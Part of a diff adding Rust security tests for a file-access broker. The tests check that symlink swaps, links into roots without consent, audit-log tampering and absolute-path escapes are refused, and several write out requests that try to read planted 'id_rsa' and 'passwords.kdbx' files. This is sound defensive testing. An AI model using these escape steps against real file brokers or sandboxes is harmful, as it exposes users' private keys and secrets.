+        );
+        for (m, p) in rest {
+            c.b.request(m, p);
+        }
+        if std::fs::read_link(c.home.join(".dotfiles")).ok() != Some(link_before) {
+            let now = what_is(&c.home.join(".dotfiles"));
+            problems.push(format!("{label}: home/.dotfiles is now {now}"));
+        }
+        let outside = c.outside();
+        for seen in after_sighup(&mut c.b, &roots, &outside) {
+            problems.push(format!("{label}: {seen}"));
+        }
+    }
+    problems.assert_none("F5: a hop of the symlink chain to the policy");
+}
+
+// ---------------------------------------------------------------------------------------------
+// F6: a root configured through a symlink
+// ---------------------------------------------------------------------------------------------
+
+/// F6 world: `T/proj` (root `p`, read-write, auto), `T/vendor/readme.txt`, the user's links
+/// `T/proj/vendor -> T/vendor` (the root `vendor` is configured as `path = "proj/vendor"`) and
+/// `T/proj/secret-link -> T/home-secret` (holding `id_rsa`).
+fn vendor_world() -> (tempfile::TempDir, PathBuf, LiveBroker) {
+    let (t, dir) = tempdir();
+    let proj = dir.join("proj");
+    std::fs::create_dir(&proj).unwrap();
+    put(&dir.join("vendor/readme.txt"), "vendor readme");
+    put(&dir.join("home-secret/id_rsa"), OUTSIDE_MARKER);
+    symlink(dir.join("vendor"), proj.join("vendor")).unwrap();
+    symlink(dir.join("home-secret"), proj.join("secret-link")).unwrap();
+    let policy = dir.join("policy.toml");
+    std::fs::write(
+        &policy,
+        format!(
+            "{}{}{LIMITS}",
+            root_toml("\"proj\"", "p", "read-write", "auto", &[]),
+            root_toml("\"proj/vendor\"", "vendor", "read-only", "auto", &[]),
+        ),
+    )
+    .unwrap();
+    let b = serve(&policy);
+    (t, dir, b)
+}
+
+/// F6: a second root configured through the user's symlink `proj/vendor` inside the
+/// read-write root `p`. Renaming another link onto it, deleting it, or renaming it away (each
+/// followed by putting the user's `secret-link` in its place) is refused "the root itself…" or
+/// "protected…"; after SIGHUP `roots/list` is unchanged, `vendor/readme.txt` still reads and
+/// `vendor/id_rsa` does not.
+#[test]
+fn f6_the_symlink_a_root_is_configured_through_cannot_be_replaced() {
+    let reason = Reason::StartsWith(&["the root itself", "protected"]);
+    let mut problems = Problems::default();
+    let onto = (
+        "files/rename",
+        json!({"oldPath": "p/secret-link", "newPath": "p/vendor"}),
+    );
+    let rows = [
+        (
+            "rename another link onto it",
+            (
+                "files/rename",
+                json!({"oldPath": "p/secret-link", "newPath": "p/vendor", "overwrite": true}),
+            ),
+            "p/vendor",
+            None,
+        ),
+        (
+            "delete it, then rename another link to its name",
+            ("files/delete", json!({"path": "p/vendor"})),
+            "p/vendor",
+            Some(onto.clone()),
+        ),
+        (
+            "rename it away, then rename another link to its name",
+            (
+                "files/rename",
+                json!({"oldPath": "p/vendor", "newPath": "p/vendor.old"}),
+            ),
+            "p/vendor",
+            Some(onto),
+        ),
+    ];
+    for (label, (method, params), blame, rest) in rows {
+        let (_t, dir, mut b) = vendor_world();
+        // Control: the user's other link leads out of every root.
+        let r = b.request("files/read", json!({"path": "p/secret-link/id_rsa"}));
+        problems.check(
+            &format!("{label}: control"),
+            denied(&r, "p/secret-link/id_rsa", Reason::Is("outside every root")),
+        );
+        let roots = b.ok("roots/list", json!({}));
+        let r = b.request(method, params.clone());
+        problems.check(
+            &format!("{label}: {method} {params}"),
+            denied(&r, blame, reason),
+        );
+        if let Some((m, p)) = rest {
+            b.request(m, p);
+        }
+        if std::fs::read_link(dir.join("proj/vendor")).ok() != Some(dir.join("vendor")) {
+            let now = what_is(&dir.join("proj/vendor"));
+            problems.push(format!("{label}: proj/vendor is now {now}"));
+        }
+        for seen in after_sighup(&mut b, &roots, &["vendor/id_rsa".to_owned()]) {
+            problems.push(format!("{label}: {seen}"));
+        }
+        let r = b.request("files/read", json!({"path": "vendor/readme.txt"}));
+        if r["result"]["content"] != "vendor readme" {
+            problems.push(format!(
+                "{label}: after SIGHUP vendor/readme.txt answers {}",
+                shown(&r)
+            ));
+        }
+    }
+    problems.assert_none("F6: the symlink a root is configured through");
+}
+
+// ---------------------------------------------------------------------------------------------
+// F7: the audit log after `[audit] path` changes
+// ---------------------------------------------------------------------------------------------
+
+/// F7: `[audit] path` names `T/proj/audit.jsonl` inside the read-write root `p`; the user edits
+/// the policy to log elsewhere and it reloads (the log in use stays until restart). That log
+/// must stay protected: read, write and delete of `p/audit.jsonl` refused "protected…", and
+/// the file only grew.
+#[test]
+fn f7_the_audit_log_in_use_stays_protected_after_the_audit_path_changes() {
+    let (_t, dir) = tempdir();
+    let proj = dir.join("proj");
+    std::fs::create_dir(&proj).unwrap();
+    let log = proj.join("audit.jsonl");
+    let policy = dir.join("cfg/policy.toml");
+    let text = |audit: &Path| {
+        format!(
+            "{}[audit]\npath = {}\n\n{LIMITS}",
+            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
+            lit(audit)
+        )
+    };
+    put(&policy, &text(&log));
+    let mut b = serve(&policy);
+    let protected = Reason::StartsWith(&["protected"]);
+    b.ok("files/write", json!({"path": "p/a", "content": "1"}));
+    let r = b.request("files/read", json!({"path": "p/audit.jsonl"}));
+    denied(&r, "p/audit.jsonl", protected).expect("control: the log is protected at first");
+
+    // The user moves the audit log elsewhere; the policy reloads.
+    let from = b.log_len();
+    let new = dir.join("cfg/policy.toml.new");
+    std::fs::write(&new, text(&dir.join("cfg/new-audit.jsonl"))).unwrap();
+    std::fs::rename(&new, &policy).unwrap();
+    hangup(b.pid());
+    let end = Instant::now() + DEADLINE;
+    while !b
+        .log_since(from)
+        .iter()
+        .any(|l| l.contains("the [audit] table changed"))
+    {
+        assert!(Instant::now() < end, "the policy did not reload");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    b.ok("files/write", json!({"path": "p/b", "content": "1"}));
+    let kept = std::fs::read(&log).unwrap();
+
+    let mut problems = Problems::default();
+    for (method, params) in [
+        ("files/read", json!({"path": "p/audit.jsonl"})),
+        (
+            "files/write",
+            json!({"path": "p/audit.jsonl", "content": ""}),
+        ),
+        ("files/delete", json!({"path": "p/audit.jsonl"})),
+    ] {
+        let r = b.request(method, params.clone());
+        problems.check(
+            &format!("{method} {params}"),
+            denied(&r, "p/audit.jsonl", protected),
+        );
+    }
+    match std::fs::read(&log) {
+        Ok(now) if now.starts_with(&kept) => {}
+        Ok(now) => problems.push(format!(
+            "the audit log was rewritten: {} bytes, was {}",
+            now.len(),
+            kept.len()
+        )),
+        Err(e) => problems.push(format!("the audit log is gone: {e}")),
+    }
+    problems.assert_none("F7: the audit log in use after [audit] path changed");
+}
+
+// ---------------------------------------------------------------------------------------------
+// F8 - F10: nested deny and prompt roots
+// ---------------------------------------------------------------------------------------------
+
+/// `T/proj` (root `outer`, read-write, auto) holding `dn` (root `dn`, read-write, consent
+/// deny) and `pr` (root `pr`, read-write, prompt, the consent command approving everything):
+///
+/// ```text
+/// proj/visible.txt   proj/dn/sub/private-name.txt   proj/dn/tax-return.pdf
+/// proj/pr/diary.txt  proj/pr/granted/   proj/pr/private/
+/// proj/lnk_dn -> dn   proj/lnk_pr -> pr   proj/pr/granted/lnk_priv -> ../private
+/// ```
+///
+/// No deny glob anywhere.
+fn nested_world() -> (tempfile::TempDir, PathBuf, LiveBroker) {
+    let (t, dir) = tempdir();
+    let proj = dir.join("proj");
+    put(&proj.join("visible.txt"), "v");
+    put(&proj.join("dn/sub/private-name.txt"), "DENYROOT");
+    put(&proj.join("dn/tax-return.pdf"), "TAX");
+    put(&proj.join("pr/diary.txt"), "PROMPT");
+    mkdirs(&proj, &["pr/granted", "pr/private"]);
+    symlink("dn", proj.join("lnk_dn")).unwrap();
+    symlink("pr", proj.join("lnk_pr")).unwrap();
+    symlink("../private", proj.join("pr/granted/lnk_priv")).unwrap();
+    put(&dir.join("consent/approve.py"), APPROVE_ALL_PY);
+    let policy = dir.join("policy/policy.toml");
+    put(
+        &policy,
+        &format!(
+            "{}{}{}[consent]\ncommand = [{}, {}]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
+            root_toml(&lit(&proj), "outer", "read-write", "auto", &[]),
+            root_toml(&lit(&proj.join("dn")), "dn", "read-write", "deny", &[]),
+            root_toml(&lit(&proj.join("pr")), "pr", "read-write", "prompt", &[]),
+            lit(Path::new(python())),
+            lit(&dir.join("consent/approve.py")),
+        ),
+    );
+    let b = serve(&policy);
+    (t, dir, b)
+}
+
+/// F8: `files/create outer/lnk_dn/a/b/c/f` (`lnk_dn -> dn`, a nested `consent = "deny"` root)
+/// and, after consent for `pr/granted` only, `files/create pr/granted/lnk_priv/x/y/z`
+/// (`lnk_priv -> ../private`, ungranted): each refused "no consent" and no folder made
+/// anywhere.
+#[test]
+fn f8_create_through_a_link_into_a_root_without_consent_makes_no_folders() {
+    let (_t, dir, mut b) = nested_world();
+    let proj = dir.join("proj");
+    let mut problems = Problems::default();
+
+    let before = snapshot(&proj);
+    let r = b.request(
+        "files/create",
+        json!({"path": "outer/lnk_dn/a/b/c/f", "type": "file"}),
+    );
+    problems.check(
+        "files/create outer/lnk_dn/a/b/c/f",
+        denied(&r, "outer/lnk_dn/a/b/c/f", Reason::Is("no consent")),
+    );
+    let changed = diff(&before, &snapshot(&proj));
+    if !changed.is_empty() {
+        problems.push(format!(
+            "files/create outer/lnk_dn/a/b/c/f changed the disk: {changed:?}"
+        ));
+    }
+
+    let r = b.ok(
+        "files/consent",
+        json!({"message": "only granted", "requestedPaths": ["pr/granted"]}),
+    );
+    assert_eq!(
+        r["approvedPaths"],
+        json!([s(&proj.join("pr/granted"))]),
+        "control: {r}"
+    );
+    let before = snapshot(&proj);
+    let r = b.request(
+        "files/create",
+        json!({"path": "pr/granted/lnk_priv/x/y/z", "type": "directory"}),
+    );
+    problems.check(
+        "files/create pr/granted/lnk_priv/x/y/z",
+        denied(&r, "pr/granted/lnk_priv/x/y/z", Reason::Is("no consent")),
+    );
+    let changed = diff(&before, &snapshot(&proj));
+    if !changed.is_empty() {
+        problems.push(format!(
+            "files/create pr/granted/lnk_priv/x/y/z changed the disk: {changed:?}"
+        ));
+    }
+    // Control: the ungranted folder itself is closed.
+    let r = b.request("files/list", json!({"path": "pr/private"}));
+    problems.check(
+        "control: files/list pr/private",
+        denied(&r, "pr/private", Reason::Is("no consent")),
+    );
+    problems.assert_none("F8: files/create through a link into a root without consent");
+}
+
+/// F9: `files/list outer` with `recursive: true` shows nothing beneath the nested deny root
+/// `dn` nor beneath the ungranted prompt root `pr` (whose direct listing is refused "no
+/// consent", the controls), and still shows the rest.
+#[test]
+fn f9_a_recursive_listing_of_the_outer_root_hides_nested_roots_without_consent() {
+    let (_t, _dir, mut b) = nested_world();
+    for p in ["outer/dn", "outer/pr"] {
+        let r = b.request("files/list", json!({"path": p}));
+        denied(&r, p, Reason::Is("no consent")).unwrap_or_else(|e| panic!("control {p}: {e}"));
+    }
+    let names = listed(&mut b, "outer", true).unwrap_or_else(|r| panic!("list outer: {r}"));
+    assert!(
+        names.contains(&"outer/visible.txt".to_owned()),
+        "control: {names:?}"
+    );
+    let leaked: Vec<&String> = names
+        .iter()
+        .filter(|n| n.starts_with("outer/dn/") || n.starts_with("outer/pr/"))
+        .collect();
+    assert!(
+        leaked.is_empty(),
+        "F9: a recursive list of outer shows the inside of roots without consent: {leaked:?}"
+    );
+}
+
+/// F10: with no deny glob anywhere, `files/list outer/lnk_dn` (`lnk_dn -> dn`, a nested deny
+/// root) and `outer/lnk_pr` (to the ungranted prompt root) are refused "no consent", like
+/// reading a file through them (the controls).
+#[test]
+fn f10_a_listing_through_a_link_into_a_nested_root_without_consent_is_refused() {
+    let (_t, _dir, mut b) = nested_world();
+    let mut problems = Problems::default();
+    for p in ["outer/lnk_dn/tax-return.pdf", "outer/lnk_pr/diary.txt"] {
+        let r = b.request("files/read", json!({"path": p}));
+        problems.check(
+            &format!("control: files/read {p}"),
+            denied(&r, p, Reason::Is("no consent")),
+        );
+    }
+    for (p, recursive) in [
+        ("outer/lnk_dn", false),
+        ("outer/lnk_dn", true),
+        ("outer/lnk_pr", false),
+    ] {
+        let r = b.request(
+            "files/list",
+            json!({"path": p, "recursive": recursive, "includeHidden": true}),
+        );
+        problems.check(
+            &format!("files/list {p} recursive={recursive}"),
+            denied(&r, p, Reason::Is("no consent")),
+        );
+    }
+    problems.assert_none("F10: listing through a link into a nested root without consent");
+}
+
+/// F10, one prompt root: `h` = `T/home` (prompt, the command approving everything), consent
+/// for `h/work` only, and the user's `h/work/priv -> ../private`: `files/list h/work/priv` is
+/// refused "no consent", like `files/list h/private` and reading through the link (controls).
+#[test]
+fn f10_a_listing_through_a_link_in_a_granted_folder_to_an_ungranted_one_is_refused() {
+    let (_t, dir) = tempdir();
+    let home = dir.join("home");
+    put(&home.join("private/passwords.kdbx"), OUTSIDE_MARKER);
+    std::fs::create_dir(home.join("work")).unwrap();
+    symlink("../private", home.join("work/priv")).unwrap();
+    put(&dir.join("consent/approve.py"), APPROVE_ALL_PY);
+    let policy = dir.join("policy/policy.toml");
+    put(
+        &policy,
+        &format!(
+            "{}[consent]\ncommand = [{}, {}]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
+            root_toml(&lit(&home), "h", "read-only", "prompt", &[]),
+            lit(Path::new(python())),
+            lit(&dir.join("consent/approve.py")),
+        ),
+    );
+    let mut b = serve(&policy);
+    let r = b.ok(
+        "files/consent",
+        json!({"message": "m", "requestedPaths": ["h/work"]}),
+    );
+    assert_eq!(r["approvedPaths"], json!([s(&home.join("work"))]), "{r}");
+    let mut problems = Problems::default();
+    let r = b.request("files/list", json!({"path": "h/private"}));
+    problems.check(
+        "control: files/list h/private",
+        denied(&r, "h/private", Reason::Is("no consent")),
+    );
+    let r = b.request("files/read", json!({"path": "h/work/priv/passwords.kdbx"}));
+    problems.check(
+        "control: files/read h/work/priv/passwords.kdbx",
+        denied(&r, "h/work/priv/passwords.kdbx", Reason::Is("no consent")),
+    );
+    match listed(&mut b, "h/work", false) {
+        Ok(names) if names == ["h/work/priv"] => {}
+        other => problems.push(format!("control: files/list h/work: {other:?}")),
+    }
+    let r = b.request(
+        "files/list",
+        json!({"path": "h/work/priv", "includeHidden": true}),
+    );
+    problems.check(
+        "files/list h/work/priv",
+        denied(&r, "h/work/priv", Reason::Is("no consent")),
+    );
+    problems.assert_none("F10: listing through a link from a granted folder to an ungranted one");
+}
+
+// ---------------------------------------------------------------------------------------------
+// F11: listing the audit log's folder through a link
+// ---------------------------------------------------------------------------------------------
+
+/// F11: `T/proj` (root `p`, read-write, auto) holds `logs/` with the audit log
+/// (`[audit] path`), a rotated `audit.jsonl.1.gz` and `notes.txt`, and the user's
+/// `loglink -> logs`. `files/list p/loglink` shows `notes.txt` and neither log, like
+/// `files/list p/logs` (the control).
+#[test]
+fn f11_a_listing_through_a_link_to_the_audit_logs_folder_hides_the_logs() {
+    let (_t, dir) = tempdir();
+    let proj = dir.join("proj");
+    put(&proj.join("logs/audit.jsonl.1.gz"), "ROTATED");
+    put(&proj.join("logs/notes.txt"), "notes");
+    symlink("logs", proj.join("loglink")).unwrap();
+    let policy = dir.join("cfg/policy.toml");
+    put(
+        &policy,
+        &format!(
+            "{}[audit]\npath = {}\n\n{LIMITS}",
+            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
+            lit(&proj.join("logs/audit.jsonl"))
+        ),
+    );
+    let mut b = serve(&policy);
+    b.ok("files/write", json!({"path": "p/a.txt", "content": "a"}));
+    assert!(proj.join("logs/audit.jsonl").is_file(), "no audit log");
+    let mut problems = Problems::default();
+    for (path, notes) in [
+        ("p/logs", "p/logs/notes.txt"),
+        ("p/loglink", "p/loglink/notes.txt"),
+    ] {
+        match listed(&mut b, path, false) {
+            Ok(names) => {
+                if !names.contains(&notes.to_owned()) {
+                    problems.push(format!("files/list {path} misses {notes}: {names:?}"));
+                }
+                let logs: Vec<&String> = names.iter().filter(|n| n.contains("audit")).collect();
+                if !logs.is_empty() {
+                    problems.push(format!("files/list {path} shows {logs:?}"));
+                }
+            }
+            Err(r) => problems.push(format!("files/list {path} failed: {}", shown(&r))),
+        }
+    }
+    problems.assert_none("F11: listing the audit log's folder through a link");
+}
+
+// ---------------------------------------------------------------------------------------------
+// A relative root on the command line
+// ---------------------------------------------------------------------------------------------
+
+/// `fsbroker serve --root .` run in `T/proj`, which holds `etc/hostname` and
+/// `usr/share/fsb-review/marker.txt`: `files/read /etc/hostname` (and the other absolute path,
+/// which exists only beneath `T/proj`) is refused "outside every root", never answered with
+/// the file beneath the working directory; the same file by its real absolute path reads (the
+/// control).
+#[test]
+fn relative_root_an_absolute_path_outside_is_outside_every_root() {
+    let (_t, dir) = tempdir();
+    let proj = dir.join("proj");
+    put(&proj.join("etc/hostname"), "in-proj-hostname\n");
+    put(
+        &proj.join("usr/share/fsb-review/marker.txt"),
+        "in-proj-marker\n",
+    );
+    let mut b = Broker::spawn_stderr_to_file(
+        &["serve", "--root", "."],
+        &proj,
+        "fsbroker=info",
+        &dir.join("stderr.log"),
+    );
+    let roots = b.ok("roots/list", json!({}));
+    assert_eq!(
+        roots["roots"][0]["uri"],
+        json!(uri(&proj)),
+        "control: {roots}"
+    );
+    let r = b.ok("files/read", json!({"path": s(&proj.join("etc/hostname"))}));
+    assert_eq!(r["content"], "in-proj-hostname\n", "control: {r}");
+    let mut problems = Problems::default();
+    for p in ["/etc/hostname", "/usr/share/fsb-review/marker.txt"] {
+        let r = b.request("files/read", json!({"path": p}));
+        problems.check(
+            &format!("files/read {p}"),
+            denied(&r, p, Reason::Is("outside every root")),
+        );
+        if b.last_raw.contains("in-proj") {
+            problems.push(format!("files/read {p} answered a file beneath $PWD"));
+        }
+    }
+    problems.assert_none("--root .: absolute paths outside the root");
+}
